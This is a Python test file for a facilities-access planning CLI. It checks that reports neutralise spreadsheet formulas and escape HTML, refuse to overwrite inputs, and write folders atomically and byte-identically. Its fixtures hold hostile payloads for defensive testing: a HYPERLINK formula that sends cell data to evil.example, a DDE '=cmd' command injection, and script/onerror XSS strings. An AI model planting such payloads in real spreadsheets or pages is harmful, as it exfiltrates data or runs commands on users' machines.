"""Outputs that cannot hurt the planner (issue 12): hostile names stay text in every file."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest

from circle.cli import main
from circle.report.tables import neutralised
from tests.test_recommend import recommend_args

TINY_OSM = Path(__file__).parent / "data" / "tiny.osm"
#: Names a hostile or careless facilities file could hold.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
SCRIPT = "<script>alert(1)</script>|`x`"
HOSTILE_CSV = (
    "id,name,category,lon,lat,capacity\n"
    f'=1+1,"{FORMULA.replace(chr(34), chr(34) * 2)}",clinic,24.9401,60.1701,10\n'
    f"c2,{SCRIPT},=evilcat,24.9402,60.1702,5\n"
    "c3,@SUM(1),-neg,24.9403,60.1703,\n"
    "c4,\tTabbed,+plus,24.9404,60.1704,\n"
)
#: How a numbered element id of a map starts: fewer than 16**19 elements, so 13 zeros (a
#: random id starts so with chance 16**-13).
_NUMBERED_ID_START = "0" * 13
#: Starts of text that a spreadsheet runs as a formula.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, Path, Path]:
    facilities = tmp_path / "fac.csv"
    facilities.write_text(HOSTILE_CSV, encoding="utf-8")
    people = tmp_path / "people.csv"
    people.write_text("lon,lat,population\n24.941,60.1705,100\n24.9415,60.1702,50\n")
    scenarios = tmp_path / "s.toml"
    scenarios.write_text('[[scenario]]\nname = "=cmd|\' /C calc\'!A0"\nprofile = "elderly"\n')
    return facilities, people, scenarios


def _run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = main(argv)
    return code, capsys.readouterr().err


def _inputs(facilities: Path, people: Path) -> list[str]:
    return [
        "--network",
        str(TINY_OSM),
        "--facilities",
        str(facilities),
        "--population",
        str(people),
    ]


def test_neutralised_prefixes_only_formula_starts() -> None:
    assert [neutralised(s) for s in ("=1", "+1", "-x", "@x", "\tx", "\rx")] == [
        "'=1",
        "'+1",
        "'-x",
        "'@x",
        "'\tx",
        "'\rx",
    ]
    assert neutralised("clinic") == "clinic"
    assert neutralised("a=b") == "a=b"


def _assert_no_formulas(path: Path) -> int:
    """Every cell of the workbook is inert; returns how many hostile texts were seen."""
    book = openpyxl.load_workbook(path)
    seen = 0
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS):
                    assert cell.data_type == "s"
                    seen += 1
    return seen


def _assert_csv_neutralised(path: Path) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    for row in rows:
        for value in row:
            assert not value.startswith(DANGEROUS), (path.name, value)
    return rows


def test_hostile_names_are_text_in_every_report_file(hostile, tmp_path, capsys) -> None:
    facilities, people, scenarios = hostile
    out = tmp_path / "report"
    code, err = _run(
        ["report", *_inputs(facilities, people), "--out", str(out), "--minutes", "15"], capsys
    )
    assert code == 0, err
    # xlsx: the names are there, as strings, never formulas.
    assert _assert_no_formulas(out / "gaps.xlsx") >= 4
    book = openpyxl.load_workbook(out / "gaps.xlsx")
    texts = {c.value for s in book for r in s.iter_rows() for c in r}
    assert FORMULA in texts
    assert "=1+1" in texts
    # CSV: text neutralised the OWASP way, numbers stay numbers (negative ones too).
    for name in ("summary.csv", "neighbourhoods.csv", "facilities.csv"):
        _assert_csv_neutralised(out / name)
    rows = _assert_csv_neutralised(out / "facilities.csv")
    header, body = rows[0], rows[1:]
    by_id = {r[header.index("id")]: r for r in body}
    assert by_id["'=1+1"][header.index("name")] == "'" + FORMULA
    assert by_id["c3"][header.index("category")] == "'-neg"
    for r in body:
        float(r[header.index("lon")])
        float(r[header.index("snap_m")])
    # report.md: no raw HTML, no broken table, no code span from input.
    md = (out / "report.md").read_text(encoding="utf-8")
    assert "<script" not in md
    assert "&lt;script&gt;" in md or "script" not in md
    # map.html: the names never appear as markup.
    page = (out / "map.html").read_text(encoding="utf-8")
    assert "<script>alert(1)" not in page
    # scenarios: the hostile scenario name is text in the xlsx and neutralised in the CSV.
    sc_out = tmp_path / "scenarios"
    code, err = _run(
        ["scenario", str(scenarios), *_inputs(facilities, people), "--out", str(sc_out)], capsys
    )
    assert code == 0, err
    assert _assert_no_formulas(sc_out / "scenarios.xlsx") >= 1
    rows = _assert_csv_neutralised(sc_out / "scenarios.csv")
    assert any(r[0] == "'=cmd|' /C calc'!A0" for r in rows)


def test_report_md_escapes_every_input_value(hostile, tmp_path, capsys) -> None:
    facilities, people, _ = hostile
    # An off-network facility with a hostile name reaches the off-network table.
    far = tmp_path / "far.csv"
    far.write_text(
        facilities.read_text(encoding="utf-8")
        + "off1,<img src=x onerror=alert(1)>,<b>cat</b>,24.9600,60.1650,\n",
        encoding="utf-8",
    )
    out = tmp_path / "report"
    code, err = _run(["report", *_inputs(far, people), "--out", str(out)], capsys)
    assert code == 0, err
    md = (out / "report.md").read_text(encoding="utf-8")
    assert "<img" not in md
    assert "<b>" not in md
    assert "&lt;img src=x onerror=alert(1)>" in md
    assert "&lt;b>cat&lt;/b>" in md
    # Table rows keep their column count: the `|` and backtick of a name are escaped.
    for line in md.splitlines():
        if line.startswith("|") and "script" in line:
            assert "\\|" in line
            assert "\\`x\\`" in line


def test_tiles_attribution_is_plain_text_in_the_map(hostile, tmp_path, capsys) -> None:
    facilities, people, _ = hostile
    out = tmp_path / "map.html"
    code, err = _run(
        [
            "map",
            *_inputs(facilities, people),
            "--out",
            str(out),
            "--tiles",
            "https://tiles.example/{z}/{x}/{y}.png",
            "--tiles-attribution",
            "<img src=x onerror=alert(1)> © Survey & Co",
        ],
        capsys,
    )
    assert code == 0, err
    page = out.read_text(encoding="utf-8")
    assert "<img src=x" not in page
    attribution = re.search(r'"attribution": "([^"]*)"', page)
    assert attribution is not None
    assert "\\u0026lt;img src=x onerror=alert(1)\\u0026gt;" in attribution.group(1)


# ---------------------------------------------------------------------------------------
# Inputs are never written over; one line, never a traceback


def _one_line_error(code: int, err: str, *needles: str) -> None:
    assert code == 2, err
    assert err.strip().count("\n") == 0, err
    assert "Traceback" not in err
    for needle in needles:
        assert needle in err, err


def test_an_input_inside_out_is_not_replaced_by_the_report(hostile, tmp_path, capsys) -> None:
    facilities, people, _ = hostile
    out = tmp_path / "out"
    out.mkdir()
    inside = out / "facilities.csv"  # named like a report file
    inside.write_bytes(facilities.read_bytes())
    before = inside.read_bytes()
    code, err = _run(["report", *_inputs(inside, people), "--out", str(out)], capsys)
    _one_line_error(code, err, "is the input", "facilities.csv")
    assert inside.read_bytes() == before
    assert sorted(p.name for p in out.iterdir()) == ["facilities.csv"]


def test_map_and_from_osm_refuse_to_write_over_their_input(hostile, tmp_path, capsys) -> None:
    facilities, people, _ = hostile
    before = facilities.read_bytes()
    code, err = _run(["map", *_inputs(facilities, people), "--out", str(facilities)], capsys)
    _one_line_error(code, err, "is the input")
    # Through a symbolic link, and through `..`.
    link = tmp_path / "sub" / "link.csv"
    link.parent.mkdir()
    link.symlink_to(facilities)
    code, err = _run(["map", *_inputs(facilities, people), "--out", str(link)], capsys)
    _one_line_error(code, err, "is the input")
    dotted = tmp_path / "sub" / ".." / facilities.name
    code, err = _run(["map", *_inputs(facilities, people), "--out", str(dotted)], capsys)
    _one_line_error(code, err, "is the input")
    assert facilities.read_bytes() == before
    pbf = tmp_path / "v.osm.pbf"
    pbf.write_bytes(b"not really a pbf")
    code, err = _run(["facilities", "from-osm", str(pbf), "--out", str(pbf)], capsys)
    _one_line_error(code, err, "is the input")
    assert pbf.read_bytes() == b"not really a pbf"


def test_scenario_output_cannot_be_the_scenario_file(hostile, tmp_path, capsys) -> None:
    facilities, people, scenarios = hostile
    out = tmp_path / "sc"
    out.mkdir()
    inside = out / "scenarios.csv"
    inside.write_bytes(scenarios.read_bytes())
    code, err = _run(
        ["scenario", str(inside), *_inputs(facilities, people), "--out", str(out)], capsys
    )
    # A TOML named .csv still loads: the clash is found before anything is written.
    _one_line_error(code, err, "is the input")
    assert inside.read_bytes() == scenarios.read_bytes()


def test_unwritable_outputs_fail_in_one_line_before_computing(hostile, tmp_path, capsys) -> None:
    facilities, people, _ = hostile
    out = tmp_path / "o"
    (out / "summary.csv").mkdir(parents=True)
    code, err = _run(["report", *_inputs(facilities, people), "--out", str(out)], capsys)
    _one_line_error(code, err, "summary.csv", "is a folder")
    assert sorted(p.name for p in out.iterdir()) == ["summary.csv"]
    a_file = tmp_path / "file.txt"
    a_file.write_text("x")
    code, err = _run(["report", *_inputs(facilities, people), "--out", str(a_file / "o")], capsys)
    _one_line_error(code, err, "file.txt")
    if Path("/sys").is_dir():  # read-only even for root
        code, err = _run(
            ["report", *_inputs(facilities, people), "--out", "/sys/circle-report"], capsys
        )
        _one_line_error(code, err, "is not writable")


def test_truncated_pbf_and_empty_categories_give_one_line(tmp_path, capsys, helsinki_pbf):
    truncated = tmp_path / "truncated.osm.pbf"
    data = helsinki_pbf.read_bytes()
    truncated.write_bytes(data[: len(data) // 2])
    code, err = _run(
        ["facilities", "from-osm", str(truncated), "--out", str(tmp_path / "f.geojson")], capsys
    )
    _one_line_error(code, err, "truncated.osm.pbf")
    facilities = tmp_path / "f.csv"
    facilities.write_text("id,category,lon,lat\nc1,clinic,24.9401,60.1701\n")
    code, err = _run(
        [
            "report",
            "--network",
            str(TINY_OSM),
            "--facilities",
            str(facilities),
            "--out",
            str(tmp_path / "o"),
            "--categories",
            ",",
        ],
        capsys,
    )
    _one_line_error(code, err, "names no category")


def test_python_warnings_are_logged_as_one_line() -> None:
    import logging
    import warnings

    from circle.cli import _one_line_warning

    with warnings.catch_warnings():
        warnings.simplefilter("always")
        text = warnings.formatwarning(
            "Geometry is in a geographic CRS", UserWarning, "/x/y/geopandas/base.py", 42, "x = 1"
        )
    record = logging.LogRecord("py.warnings", logging.WARNING, "", 0, "%s", (text,), None)
    assert _one_line_warning(record)
    assert record.getMessage() == "UserWarning: Geometry is in a geographic CRS"


# ---------------------------------------------------------------------------------------
# Byte-identical outputs


def test_every_output_is_byte_identical_across_runs(hostile, tmp_path, capsys) -> None:
    import zipfile

    facilities, people, scenarios = hostile
    candidates = tmp_path / "sites.csv"
    candidates.write_text(f"id,name,lon,lat\nk1,{SCRIPT},24.9419,60.1709\n", encoding="utf-8")
    for run in ("one", "two"):
        code, err = _run(
            ["report", *_inputs(facilities, people), "--out", str(tmp_path / run)], capsys
        )
        assert code == 0, err
        code, err = _run(
            [
                "scenario",
                str(scenarios),
                *_inputs(facilities, people),
                "--out",
                str(tmp_path / f"sc-{run}"),
            ],
            capsys,
        )
        assert code == 0, err
        code, err = _run(
            recommend_args(facilities, tmp_path / f"rec-{run}", "--candidates", str(candidates)),
            capsys,
        )
        assert code == 0, err
    # The recommendation map has a popup per proposed site (folium names each one's HTML).
    assert "\n1,clinic," in (tmp_path / "rec-one" / "recommendations.csv").read_text()
    assert "html_" in (tmp_path / "rec-one" / "map.html").read_text(encoding="utf-8")
    for one in ("one", "sc-one", "rec-one"):
        files = sorted(p.relative_to(tmp_path / one) for p in (tmp_path / one).rglob("*.*"))
        assert len(files) >= 2
        other = one.replace("one", "two")
        for name in files:
            assert (tmp_path / one / name).read_bytes() == (tmp_path / other / name).read_bytes(), (
                name
            )
    # Every element id in every map is numbered: none is left random (a random id has
    # 32 hex digits; a numbered one is its number in 32 digits, so it starts with zeros).
    maps = sorted(tmp_path.rglob("*.html"))
    assert len(maps) >= 3
    for page in maps:
        ids = set(re.findall(r"[0-9a-f]{32}", page.read_text(encoding="utf-8")))
        assert ids
        assert not {i for i in ids if not i.startswith(_NUMBERED_ID_START)}, page
    # The workbooks carry no save time: a run a minute later gives the same bytes.
    for book in (tmp_path / "one" / "gaps.xlsx", tmp_path / "sc-one" / "scenarios.xlsx"):
        with zipfile.ZipFile(book) as archive:
            assert {i.date_time for i in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
            core = archive.read("docProps/core.xml").decode()
        assert core.count("1980-01-01T00:00:00Z") == 2


# ---------------------------------------------------------------------------------------
# A report folder is one consistent set


def test_output_folder_moves_all_or_nothing(tmp_path, monkeypatch) -> None:
    import os
    import signal

    from circle._io import STAGING_PREFIX, output_folder

    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "a.txt").write_text("old a")
    (folder / "b.txt").write_text("old b")
    (folder / "notes.txt").write_text("mine")
    # A failure while writing leaves the old set and no staging folder.
    with pytest.raises(RuntimeError), output_folder(folder) as staging:
        (staging / "a.txt").write_text("new a")
        raise RuntimeError
    assert sorted(p.name for p in folder.iterdir()) == ["a.txt", "b.txt", "notes.txt"]
    assert (folder / "a.txt").read_text() == "old a"
    # Ctrl+C while the files are moved in: the move finishes, then the interrupt arrives.
    original = Path.replace

    def replace_then_interrupt(self: Path, target: Path) -> Path:
        os.kill(os.getpid(), signal.SIGINT)
        return original(self, target)

    monkeypatch.setattr(Path, "replace", replace_then_interrupt)
    with pytest.raises(KeyboardInterrupt), output_folder(folder) as staging:
        (staging / "a.txt").write_text("new a")
        (staging / "sub").mkdir()
        (staging / "sub" / "b.txt").write_text("new b")
    monkeypatch.undo()
    assert (folder / "a.txt").read_text() == "new a"
    assert (folder / "sub" / "b.txt").read_text() == "new b"
    assert (folder / "notes.txt").read_text() == "mine"
    assert not list(folder.glob(STAGING_PREFIX + "*"))


ROOT = Path(__file__).resolve().parents[1]
_CLI = "import sys; from circle.cli import main; sys.exit(main(sys.argv[1:]))"


def _start(facilities: Path, people: Path, out: Path, minutes: str):
    import subprocess
    import sys

    argv = ["report", *_inputs(facilities, people), "--out", str(out), "--minutes", minutes]
    return subprocess.Popen(
        [sys.executable, "-c", _CLI, *argv],
        cwd=ROOT,  # this checkout's circle
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )


def _which_set(folder: Path, references: dict[str, Path]) -> str:
    """The name of the reference set `folder` holds completely (and nothing half-written)."""
    names = sorted(p.name for p in folder.iterdir())
    for label, reference in references.items():
        expected = sorted(p.name for p in reference.iterdir())
        if names == expected and all(
            (folder / n).read_bytes() == (reference / n).read_bytes() for n in names
        ):
            return label
    return f"a mix: {names}"


@pytest.fixture(scope="module")
def two_sets(tmp_path_factory):
    """Two complete report sets of the same inputs (1 and 30 minutes), and a run's duration."""
    import time

    tmp = tmp_path_factory.mktemp("sets")
    facilities = tmp / "fac.csv"
    facilities.write_text(HOSTILE_CSV, encoding="utf-8")
    people = tmp / "people.csv"
    people.write_text("lon,lat,population\n24.941,60.1705,100\n24.9415,60.1702,50\n")
    runs = {"old": "1", "new": "30"}  # different thresholds: every file differs
    began = time.monotonic()
    started = {k: _start(facilities, people, tmp / k, m) for k, m in runs.items()}
    for process in started.values():
        assert process.wait(timeout=120) == 0, process.stderr.read()
        process.stderr.close()
    duration = (time.monotonic() - began) / 2  # two runs shared two cores, roughly
    references = {k: tmp / k for k in runs}
    for name in ("summary.csv", "gaps.xlsx", "map.html"):
        assert (tmp / "old" / name).read_bytes() != (tmp / "new" / name).read_bytes()
    return facilities, people, references, duration


def test_a_killed_run_leaves_the_old_or_the_new_complete_set(two_sets, tmp_path) -> None:
    import shutil
    import signal
    import time

    facilities, people, references, duration = two_sets
    outcomes = []
    for fraction in (0.5, 1.0):
        out = tmp_path / f"killed-{fraction}"
        shutil.copytree(references["old"], out)
        process = _start(facilities, people, out, "30")
        time.sleep(duration * fraction)
        process.send_signal(signal.SIGTERM)
        code = process.wait(timeout=120)
        process.stderr.close()
        assert code in (0, 128 + signal.SIGTERM, -signal.SIGTERM)
        outcomes.append(_which_set(out, references))
        assert outcomes[-1] in ("old", "new"), outcomes
    assert "old" in outcomes  # the test did interrupt a run


def test_concurrent_runs_on_one_folder_do_not_mix(two_sets, tmp_path) -> None:
    facilities, people, references, _ = two_sets
    out = tmp_path / "shared"
    runs = [_start(facilities, people, out, m) for m in ("1", "30")]
    for process in runs:
        assert process.wait(timeout=120) == 0, process.stderr.read()
        process.stderr.close()
    assert _which_set(out, references) in ("old", "new")


# ---------------------------------------------------------------------------------------
# No silently wrong answer; absurd numbers refused


def _report(tmp_path: Path, facilities: Path, *extra: str) -> list[str]:
    return [
        "report",
        "--network",
        str(TINY_OSM),
        "--facilities",
        str(facilities),
        "--out",
        str(tmp_path / "o"),
        *extra,
    ]


@pytest.fixture
def plain(tmp_path: Path) -> Path:
    facilities = tmp_path / "f.csv"
    facilities.write_text("id,name,category,lon,lat\nc1,Clinic,clinic,24.9401,60.1701\n")
    return facilities


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--categories", "clinc"], "unknown category `clinc`"),
        (["--categories", ","], "names no category"),
        (["--minutes", "clinic=10,clinic=20"], "gives `clinic` twice"),
        (["--minutes", "foo=10"], "unknown category `foo`"),
        (["--target", "foo=3"], "unknown category `foo`"),
        (["--target", "daycare=abc"], "must be a positive number of places"),
        (["--capacity-unit", "foo=seats"], "unknown category `foo`"),
        (["--capacity-unit", "clinic=seats,clinic=beds"], "twice"),
        (["--population-field", "pop"], "no `population` is given"),
        (["--max-snap-m", "1e308"], "more than 5,000 m"),
        (["--h3-res", "15"], "from 5 to 11"),
        (["--h3-res", "2"], "from 5 to 11"),
    ],
)
def test_options_that_name_nothing_or_absurd_numbers_exit_2(
    plain, tmp_path, capsys, extra, message
) -> None:
    code, err = _run(_report(tmp_path, plain, *extra), capsys)
    _one_line_error(code, err, message)
    assert not (tmp_path / "o").exists()


def test_unused_capacity_options_are_warned_about(plain, tmp_path, capsys) -> None:
    code, err = _run(_report(tmp_path, plain, "--target", "daycare=3.5"), capsys)
    assert code == 0
    assert "daycare" in err
    assert "not used" in " ".join(err.split())


def test_capacity_must_be_finite_and_physical(tmp_path, capsys) -> None:
    facilities = tmp_path / "f.csv"
    facilities.write_text(
        "id,category,lon,lat,capacity\nc1,clinic,24.9401,60.1701,1e308\n"
        "c2,clinic,24.9402,60.1702,inf\n"
    )
    code, err = _run(_report(tmp_path, facilities), capsys)
    _one_line_error(code, err, "above 1,000,000", "row 1")
    assert "not a number in row 2" in err


def test_facilities_or_people_off_the_network_are_refused_with_extents(
    plain, tmp_path, capsys
) -> None:
    swapped = tmp_path / "swapped.csv"
    swapped.write_text("id,name,category,lon,lat\nc1,Clinic,clinic,60.1701,24.9401\n")
    code, err = _run(_report(tmp_path, swapped), capsys)
    _one_line_error(code, err, "none of the facilities", "lon 60.1701..60.1701", "swapped")
    assert "lon 24.9380..24.9420, lat 60.1680..60.1710" in err  # the footway square, by hand
    people = tmp_path / "people.csv"
    people.write_text("lon,lat,population\n60.141,24.9705,100\n60.1415,24.9702,50\n")
    code, err = _run(_report(tmp_path, plain, "--population", str(people)), capsys)
    last = err.strip().splitlines()[-1]  # after the warning about the 2 points
    _one_line_error(code, last, "none of the population", "lon 60.1410..60.1415", "swapped")


def test_a_bad_areas_file_fails_before_the_network_loads(plain, tmp_path, capsys) -> None:
    areas = tmp_path / "areas.geojson"
    areas.write_text('{"type": "FeatureCollection", "features": [{"type": "Feature"}]}')
    missing_network = tmp_path / "not-there.osm.pbf"
    argv = _report(tmp_path, plain, "--areas", str(areas))
    argv[argv.index("--network") + 1] = str(missing_network)
    code, err = _run(argv, capsys)
    # The areas' problem is reported, not the missing network: it was checked first.
    _one_line_error(code, err, "areas.geojson")
    assert "not-there" not in err
